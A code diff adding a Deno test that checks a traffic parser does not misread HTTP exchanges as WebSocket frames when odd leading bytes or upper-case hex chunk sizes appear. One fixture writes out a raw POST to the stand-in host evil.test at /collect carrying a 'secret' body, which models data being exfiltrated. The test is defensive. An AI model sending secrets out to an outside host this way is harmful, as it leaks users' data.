@@ -417,3 +417,59 @@ Deno.test("an HTTPS proxy's CONNECT refused (407) then retried, and a tunnel ins
     "the tunnel is not read",
   ]);
 });
+
+Deno.test("a frame-like byte before a status line or a chunk size does not make a WebSocket of an HTTP connection", async () => {
+  const t = (s: string) => enc.encode(s);
+  const cat = (...b: Uint8Array[]) => {
+    const out = new Uint8Array(b.reduce((n, x) => n + x.length, 0));
+    b.reduce((o, x) => (out.set(x, o), o + x.length), 0);
+    return out;
+  };
+  const body = '{"secret":"' + "s".repeat(120) + '"}';
+  // a hostile server puts a ping's header before its status line: the request stays read
+  const hidden = await parsedAs(
+    view([
+      [
+        1,
+        "write",
+        t(
+          `POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
+        ),
+      ],
+      [
+        1,
+        "read",
+        cat(new Uint8Array([0x89, 0]), t("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")),
+      ],
+    ]),
+    "command",
+  );
+  assert.deepEqual(
+    hidden.exchanges.map((e) => [e.method, e.host, e.path]),
+    [["POST", "evil.test", "/collect"]],
+  );
+  assert.ok(!hidden.problems.some((p) => /WebSocket/.test(p.message)), "no WebSocket said");
+  // a keep-alive connection joined inside a chunked answer whose chunk size is upper-case hex
+  // (`B`: a binary frame's first byte): the next exchange is read
+  const next = JSON.stringify({ model: "m", messages: [{ role: "user", content: "hi" }] });
+  const joined = await parsedAs(
+    view([
+      [1, "read", t(`B2\r\n${"x".repeat(0xb2)}\r\n0\r\n\r\n`)],
+      [
+        1,
+        "write",
+        t(
+          "POST /v1/chat/completions HTTP/1.1\r\nHost: api.test\r\nContent-Type: application/json" +
+            `\r\nContent-Length: ${next.length}\r\n\r\n${next}`,
+        ),
+      ],
+      [1, "read", t("HTTP/1.1 204 No Content\r\n\r\n")],
+    ]),
+    "pid",
+  );
+  assert.deepEqual(
+    joined.exchanges.map((e) => [e.method, e.path, e.status]),
+    [["POST", "/v1/chat/completions", 204]],
+  );
+  assert.ok(!joined.problems.some((p) => /WebSocket/.test(p.message)), "no WebSocket said");
+});
